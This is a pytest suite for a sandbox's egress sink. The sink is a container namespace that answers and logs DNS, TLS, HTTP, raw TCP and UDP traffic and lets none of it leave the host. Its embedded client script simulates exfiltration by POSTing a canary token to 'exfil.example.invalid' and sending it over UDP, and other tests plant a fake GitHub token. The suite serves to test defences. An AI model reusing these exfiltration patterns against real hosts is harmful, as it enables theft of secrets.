"""The "observe" network mode: a server sharing the egress sink's namespace is answered and logged, and goes nowhere.

Real engine, real containers. All traffic uses names under `.invalid`; the sink answers them with addresses of its
own, and the namespace has no interface but lo.
"""

from __future__ import annotations

import json
import secrets

import pytest
from docker.errors import NotFound

from sandbox.run import sink as egress
from sandbox.core import images
from sandbox.run.sink import EgressEvent, start_sink
from sandbox.run.policy import RunPolicy, mismatches, read_applied
from sandbox.core.session import SandboxSession
from tests.sandbox_helpers import labelled_containers

NAME = "exfil.example.invalid"

CLIENT = r"""
import json, os, socket, struct, sys

canary = os.environ["CANARY"].encode()
name = sys.argv[1]

def client_hello(server_name):
    sni = server_name.encode()
    server_name_ext = struct.pack("!HHHBH", 0, len(sni) + 5, len(sni) + 3, 0, len(sni)) + sni
    alpn_ext = struct.pack("!HHH", 16, 5, 3) + b"\x02h2"
    extensions = server_name_ext + alpn_ext
    body = (b"\x03\x03" + os.urandom(32) + b"\x00" + b"\x00\x02\x13\x01" + b"\x01\x00"
            + struct.pack("!H", len(extensions)) + extensions)
    handshake = b"\x01" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x01" + struct.pack("!H", len(handshake)) + handshake

def talk(family, host, port, payload):
    address = socket.getaddrinfo(host, port, family, socket.SOCK_STREAM)[0][4]
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(20)
        s.connect(address)
        s.sendall(payload)
        reply = s.recv(100)  # the sink closes after reading: b""
    return {"address": address[0], "reply": reply.hex()}

out = {
    "interfaces": sorted(os.listdir("/sys/class/net")),
    "route_interfaces": sorted({line.split()[0] for line in open("/proc/net/route").read().splitlines()[1:]}),
    "route6_interfaces": sorted({line.split()[-1] for line in open("/proc/net/ipv6_route").read().splitlines()}),
}
out["tls"] = talk(socket.AF_INET, name, 443, client_hello(name))
body = b"token=" + canary
out["http"] = talk(socket.AF_INET, name, 80,
                   b"POST /collect HTTP/1.1\r\nHost: " + name.encode() + b"\r\nContent-Type: text/plain\r\n"
                   + b"Content-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body)
out["raw"] = talk(socket.AF_INET, "db." + name, 5432, b"\x00\x00\x00\x08\x04\xd2\x16\x2f")
out["tls6"] = talk(socket.AF_INET6, "v6." + name, 443, client_hello("v6." + name))
query = (struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode()
         for l in ("tcp." + name).split(".")) + b"\x00\x00\x01\x00\x01")
with socket.create_connection((socket.gethostbyname("ns." + name), 53), timeout=20) as t:
    t.sendall(struct.pack("!H", len(query)) + query)
    answer = t.recv(600)
out["dns_tcp_answer"] = socket.inet_ntoa(answer[-4:]) if len(answer) > 20 else None
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
    u.sendto(b"udp:" + canary, (socket.gethostbyname("udp." + name), 9999))
print(json.dumps(out), flush=True)
"""


@pytest.fixture(scope="module")
def python_runtime(docker_client):
    return images.ensure_runtime_image(docker_client, "python")


def _run_client(session: SandboxSession, image: str, policy: RunPolicy) -> tuple[dict, list[str]]:
    api = session.client.api
    container_id = session.create_container(
        "run", image=image, command=["python3", "-I", "-c", CLIENT, NAME], entrypoint=[], user=policy.user,
        environment=policy.environment(), working_dir="/workspace", network_disabled=False,
        host_config=policy.host_config(api),
    )
    problems = mismatches(policy, read_applied(api.inspect_container(container_id)))
    api.start(container_id)
    status = api.wait(container_id, timeout=120)
    stdout = api.logs(container_id, stdout=True, stderr=False).decode()
    stderr = api.logs(container_id, stdout=False, stderr=True).decode()
    assert status["StatusCode"] == 0, f"client failed: {stderr[-2000:]}"
    return json.loads(stdout.strip().splitlines()[-1]), problems


def _wait_events(sink: egress.Sink, predicate, since: float) -> list[EgressEvent]:
    """The sink logs a TCP connection once its first bytes are read; poll (bounded) until all expected are there."""
    import time

    deadline = time.monotonic() + 30
    while True:
        events = sink.events(since=since)
        if predicate(events) or time.monotonic() > deadline:
            return events
        time.sleep(0.1)


@pytest.mark.docker
def test_observe_mode_logs_dns_tls_http_and_raw_tcp_and_nothing_leaves(docker_client, python_runtime):
    canary = "CANARY-" + secrets.token_hex(12)
    with SandboxSession(docker_client) as session:
        sink = start_sink(session)
        print(f"\nsink start: {sink.start_seconds:.3f} s")
        assert sink.ready["uid"] == egress.SINK_UID and sink.ready["CapEff"] == "0" * 16
        assert sink.ready["CapBnd"] == "0" * 16 and sink.ready["NoNewPrivs"] == "1"
        sink_inspect = docker_client.api.inspect_container(sink.container_id)
        assert sink_inspect["HostConfig"]["NetworkMode"] == "none"
        policy = RunPolicy(network_mode=sink.network_mode, env={"CANARY": canary})
        out, problems = _run_client(session, python_runtime.tag, policy)
        assert problems == [], problems  # the engine applied container:<sink id> and the rest of the policy

        # No route off the host: the namespace has lo and nothing else, every route goes through it.
        assert out["interfaces"] == ["lo"]
        assert out["route_interfaces"] == ["lo"] and set(out["route6_interfaces"]) == {"lo"}

        def complete(events: list[EgressEvent]) -> bool:
            return len([e for e in events if e.kind == "tcp"]) >= 4 and any(e.kind == "udp" for e in events)

        events = _wait_events(sink, complete, since=sink.started_at)
        dns = [e for e in events if e.kind == "dns"]
        tcp = [e for e in events if e.kind == "tcp"]
        udp = [e for e in events if e.kind == "udp"]
        assert {(e.query, e.qtype) for e in dns} >= {(NAME, "A"), ("db." + NAME, "A"), ("v6." + NAME, "AAAA"),
                                                      ("udp." + NAME, "A")}

        tls = next(e for e in tcp if e.port == 443 and e.sni == NAME)
        assert tls.protocol == "tls" and tls.alpn == ("h2",) and tls.host == NAME and tls.resolved_name == NAME
        assert tls.original_dst == f"{out['tls']['address']}:443"
        http = next(e for e in tcp if e.port == 80)
        assert (http.protocol, http.method, http.path, http.http_host) == ("http", "POST", "/collect", NAME)
        assert canary.encode() in http.first_bytes
        raw = next(e for e in tcp if e.port == 5432)
        assert raw.protocol == "unknown" and raw.host == "db." + NAME  # named from the sink's own DNS answer
        assert raw.first_bytes == b"\x00\x00\x00\x08\x04\xd2\x16\x2f"
        tls6 = next(e for e in tcp if e.sni == "v6." + NAME)
        assert tls6.original_dst == f"[{out['tls6']['address']}]:443"
        assert any(canary.encode() in e.first_bytes for e in udp)
        # DNS over TCP is answered too (with the name's own address) and logged as a dns event.
        dns_tcp = next(e for e in dns if e.query == "tcp." + NAME)
        assert dns_tcp.raw["transport"] == "tcp" and out["dns_tcp_answer"] == dns_tcp.raw["answer"]

        # Every connection the client made ended at the sink (it read, logged and closed: the client saw EOF), and
        # every address it was given is the sink's own.
        assert all(out[k]["reply"] == "" for k in ("tls", "http", "raw", "tls6"))
        assert len(tcp) == 4 and all(e.resolved_name and e.resolved_name.endswith(NAME) for e in tcp)
        assert out["tls"]["address"].startswith("198.18.") and out["tls6"]["address"].startswith("2001:db8:")

        # events(since) filters by the sink's timestamps.
        assert sink.events(since=max(e.ts for e in events) + 1) == []
        sink_id = sink.container_id
    assert session.teardown_result is not None and session.teardown_result.complete
    with pytest.raises(NotFound):
        docker_client.api.inspect_container(sink_id)
    assert labelled_containers(docker_client, session.id) == []  # by label: nothing of this session is left


@pytest.mark.docker
def test_sink_stop_and_strict_mode_unchanged(docker_client):
    with SandboxSession(docker_client) as session:
        sink = start_sink(session)
        assert sink.running() and egress.is_sink_network_mode(sink.network_mode)
        sink.stop()
        with pytest.raises(NotFound):
            docker_client.api.inspect_container(sink.container_id)
    assert labelled_containers(docker_client, session.id) == []
    assert RunPolicy().network_mode == "none" and not egress.is_sink_network_mode("none")


def test_run_policy_accepts_only_none_or_a_sink_namespace():
    sink_mode = "container:" + "a" * 64
    assert RunPolicy(network_mode=sink_mode).network_mode == sink_mode
    for bad in ("bridge", "host", "default", "container:abc", "container:my-sink", "container:" + "A" * 64):
        with pytest.raises(ValueError):
            RunPolicy(network_mode=bad)


def test_policy_check_compares_the_sink_namespace():
    import dataclasses

    from sandbox.run.policy import AppliedPolicy

    policy = RunPolicy(network_mode="container:" + "a" * 64)
    good = AppliedPolicy(
        network_mode=policy.network_mode, read_only_rootfs=True, cap_drop=["ALL"], cap_add=[], no_new_privileges=True,
        privileged=False, user=policy.user, pids_limit=policy.pids_limit, memory_bytes=policy.memory_bytes,
        memory_swap_bytes=policy.memory_bytes, nano_cpus=policy.nano_cpus, init=True, restart_policy="no",
        tmpfs=policy.tmpfs(), mounts=[], env_names=sorted(policy.environment()), image="i", image_id="sha256:x",
    )
    assert mismatches(policy, good) == []
    for other in ("container:" + "b" * 64, "none", "bridge", "host"):
        assert mismatches(policy, dataclasses.replace(good, network_mode=other)), other


def test_dns_answers_and_parsers_offline():
    """The listener's DNS and first-bytes parsing, loaded from images/sink as the container runs it."""
    import importlib.util
    import struct

    spec = importlib.util.spec_from_file_location("sink_listener", images.IMAGES_DIR / "sink" / "listener.py")
    listener = importlib.util.module_from_spec(spec)
    assert spec.loader is not None
    spec.loader.exec_module(listener)
    query = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + b"\x05exfil\x07example\x07invalid\x00" + b"\x00\x01\x00\x01"
    response, info = listener.dns_answer(query)
    assert info["query"] == NAME and info["qtype"] == "A"
    assert response[:2] == b"\x12\x34" and struct.unpack("!H", response[6:8])[0] == 1
    assert response[-4:] == bytes(map(int, info["answer"].split(".")))
    assert listener.name_for(info["answer"]) == NAME.lower()
    # A compression loop or a truncated question is answered FORMERR, never crashes.
    loop = struct.pack("!HHHHHH", 1, 0, 1, 0, 0, 0) + b"\xc0\x0c"
    response, info = listener.dns_answer(loop)
    assert response is not None and response[3] & 0x0F == 1
    assert listener.dns_answer(b"\x00")[0] is None
    assert listener.describe(b"GET /x HTTP/1.1\r\nHost: a.invalid\r\n\r\n")["http_host"] == "a.invalid"
    assert listener.describe(b"\x16\x03\x01\x00\x05\x01\x00")["protocol"] == "tls"  # truncated hello: no crash


def _listener():
    import importlib.util

    spec = importlib.util.spec_from_file_location("sink_listener", images.IMAGES_DIR / "sink" / "listener.py")
    listener = importlib.util.module_from_spec(spec)
    assert spec.loader is not None
    spec.loader.exec_module(listener)
    return listener


def test_a_log_line_stays_under_the_engines_16_kib_split_and_keeps_the_first_bytes():
    """A ClientHello with a 512-byte SNI and ALPN entries of 255 control characters: each character is six bytes
    of ASCII JSON, so the line would pass 16 KiB, which the engine splits (and neither piece is JSON)."""
    import base64

    listener = _listener()
    secret = base64.b64encode(b"GITHUB_TOKEN=ghp_canary" + b"\x00" * 4_000).decode()
    event = {"ts": 1.0, "kind": "tcp", "host": "\x01" * 512, "sni": "\x01" * 512, "resolved_name": None,
             "port": 443, "original_dst": "198.18.0.9:443", "protocol": "tls", "alpn": ["\x01" * 255] * 8,
             "bytes": 4096, "truncated": False, "first_bytes": secret}
    assert len(json.dumps(event, separators=(",", ":"))) > 16_384
    line = listener.log_line(event)
    kept = json.loads(line)
    assert len(line.encode()) <= listener.MAX_LINE_BYTES and kept["cut"] is True
    assert kept["first_bytes"] == secret and kept["original_dst"] == "198.18.0.9:443"
    plain = {"ts": 1.0, "kind": "dns", "host": "a.invalid", "query": "a.invalid"}  # near miss: as it is
    assert json.loads(listener.log_line(plain)) == plain


def test_the_sink_says_when_it_stopped_logging_and_when_lines_could_not_be_read():
    from sandbox.run.sink import Sink
    from sandbox.run.sink_log import SinkLog

    log = SinkLog(None, "sink", lines=[{"kind": "ready"}, {"ts": 1_700_000_000.5, "kind": "limit",  # type: ignore[arg-type]
                                                            "max_events": 2000}], unreadable=2)
    sink = Sink(None, "sink", "img", 0.1, {}, 0.0, log=log)  # type: ignore[arg-type]
    assert sink.gaps() == [
        "the egress sink stopped logging after its 2,000 events (at 22:13:20.500 UTC): network attempts after that "
        "were answered but not seen",
        "2 lines of the egress sink's log could not be read: the network attempts they held are not seen"]
    assert Sink(None, "sink", "img", 0.1, {}, 0.0, log=SinkLog(None, "sink", lines=[{"kind": "ready"}])  # type: ignore[arg-type]
                ).gaps() == []


def test_connections_closed_unread_at_the_sinks_limit_are_a_gap():
    """A server that holds the sink's connections at once gets its next one closed before a byte is read: the attempt
    is logged (B2), but what it carried was never searched for the canaries, so the scan says so (incomplete)."""
    from sandbox.run.sink import Sink
    from sandbox.run.sink_log import SinkLog

    unread = {"ts": 2.0, "kind": "tcp", "port": 443, "protocol": "none",
              "note": "over 32 concurrent connections: closed unread"}
    read = {"ts": 1.0, "kind": "tcp", "port": 443, "protocol": "tls", "first_bytes": "AAAA"}
    log = SinkLog(None, "sink", lines=[{"kind": "ready"}, read, unread, {**unread, "ts": 3.0}])  # type: ignore[arg-type]
    assert Sink(None, "sink", "img", 0.1, {}, 0.0, log=log).gaps() == [  # type: ignore[arg-type]
        "2 connections were closed unread, over the egress sink's limit of connections at once: each attempt is seen, "
        "but what it would have sent was not searched for the planted secrets"]
    near = SinkLog(None, "sink", lines=[{"kind": "ready"}, read, {**read, "note": "sink error: reset"}])  # type: ignore[arg-type]
    assert Sink(None, "sink", "img", 0.1, {}, 0.0, log=near).gaps() == []  # type: ignore[arg-type]
